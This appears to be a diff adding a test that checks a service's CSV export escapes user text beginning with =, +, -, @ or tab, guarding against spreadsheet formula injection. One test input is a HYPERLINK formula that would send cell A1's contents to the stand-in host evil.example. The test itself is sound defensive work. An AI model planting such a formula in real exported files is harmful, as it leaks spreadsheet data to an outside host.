@@ -110,6 +110,24 @@ async def test_stats_and_export(service: Service) -> None:
     assert rows == 1 and data.decode("utf-8-sig").splitlines()[0].startswith("interaction_id,")
 
 
+async def test_the_csv_export_keeps_user_text_from_running_as_formulas(
+        service: Service) -> None:
+    import csv
+    import io
+
+    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+             "\t=1+1", "fine text", "3-1 = 2"]
+    for i, text in enumerate(texts):
+        inter, _ = await service.store.insert_interaction(NewInteraction(
+            chat_id=10, user_id=5, message_id=100 + i, text=text, version_id="v1-zh",
+            arm="active", bucket=1, label="正面", probabilities={"正面": 0.8, "负面": 0.2}))
+        await service.note_messages(inter.id, 10, "verdict", [2000 + i])
+        await service.record_vote(inter.id, 5, CORRECT, chat_id=10, message_id=2000 + i)
+    data, _ = await service.export_votes_csv()
+    cells = [row["text"] for row in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))]
+    assert cells == ["'" + t for t in texts[:5]] + texts[5:]
+
+
 async def test_forget_waits_for_the_users_message_in_flight(tiny_gguf: Path,
                                                             tmp_path: Path) -> None:
     # /forget sent while the user's last message is still with the model: that message
